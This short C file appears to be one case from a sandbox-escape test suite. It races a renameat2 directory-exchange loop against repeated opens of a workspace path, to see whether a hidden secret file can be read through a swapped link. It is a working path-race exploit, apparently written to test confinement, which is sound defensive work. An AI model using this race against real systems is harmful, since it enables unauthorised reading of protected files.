#include "attack.h"
// A directory of the workspace is exchanged with a link to the hidden one while a path through it is walked.
static volatile bool stop;
static void *flip(void *x) {
  char *a = path(arg("work"), "turn"), *b = path(arg("work"), "prepared-dir");
  while (!stop) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
  return x;
}
ATTACK(.judge = "secret:file") {
  pthread_t t;
  char *name = path(arg("work"), "turn/secret.txt");
  mkdir(path(arg("work"), "turn"), 0755);
  put(name, "harmless\n");
  pthread_create(&t, NULL, flip, NULL);
  for (double end = now() + 0.6; now() < end;) {
    int fd = open(name, O_RDONLY | O_CLOEXEC);
    if (glimpse(fd)) break;
  }
  stop = true;
  pthread_join(t, NULL);
}
